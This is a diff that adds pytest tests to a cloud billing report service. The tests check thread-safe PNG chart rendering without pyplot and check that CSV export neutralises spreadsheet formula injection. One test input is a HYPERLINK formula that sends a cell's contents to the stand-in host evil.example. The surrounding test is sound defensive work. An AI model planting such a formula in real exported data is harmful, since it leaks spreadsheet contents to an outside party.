@@ -5,6 +5,9 @@ from __future__ import annotations
 import csv
 import datetime as dt
 import io
+import sys
+import types
+from concurrent.futures import ThreadPoolExecutor
 from decimal import Decimal
 
 import pytest
@@ -89,3 +92,39 @@ def test_png_chart(history, tmp_path):
     assert response.status_code == 200 and response.mimetype == "image/png"
     assert response.data.startswith(b"\x89PNG\r\n\x1a\n") and len(response.data) > 5000
     (tmp_path / "chart.png").write_bytes(response.data)
+
+
+class _Pyplot(types.ModuleType):
+    """Stands in for matplotlib.pyplot: any use of it fails the request."""
+
+    def __getattr__(self, name):
+        raise AssertionError(f"the chart used pyplot.{name}: pyplot's global state is shared by request threads")
+
+
+def test_png_charts_drawn_at_once_without_pyplot(history, monkeypatch):
+    import matplotlib
+    client, _ = history("hourly")
+    poison = _Pyplot("matplotlib.pyplot")
+    monkeypatch.setitem(sys.modules, "matplotlib.pyplot", poison)
+    monkeypatch.setattr(matplotlib, "pyplot", poison, raising=False)
+    serial = client.get(f"/v1/billing/report?{DAY}&format=png").data
+    assert serial.startswith(b"\x89PNG")
+    with ThreadPoolExecutor(8) as pool:
+        drawn = list(pool.map(lambda _: client.get(f"/v1/billing/report?{DAY}&format=png").data, range(16)))
+    assert all(png == serial for png in drawn)
+
+
+@pytest.mark.parametrize("value", ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+1+2", "-2+3", "@SUM(A1:A9)"])
+def test_csv_escapes_what_a_spreadsheet_would_run(make_app, wait, value):
+    clock = FakeClock(T0)
+    app = make_app(clock=clock)
+    client, svc = app.test_client(), app.extensions["computed"]
+    response = client.post("/v1/instances", json={"size": "t3.micro", "tags": {"note": value, "=key": "x"}})
+    assert response.status_code == 202, response.get_json()
+    wait(svc)
+    clock.advance(hours=2)
+    text = client.get(f"/v1/billing/report?{DAY}&format=csv").get_data(as_text=True)
+    rows = list(csv.DictReader(io.StringIO(text)))
+    assert rows and all(r["resourceTags/user:note"] == "'" + value for r in rows)
+    assert all(r["resourceTags/user:=key"] == "x" for r in rows)  # the header starts with "resourceTags"
+    assert rows[0]["lineItem/UsageAmount"] == "1"  # numbers stay numbers
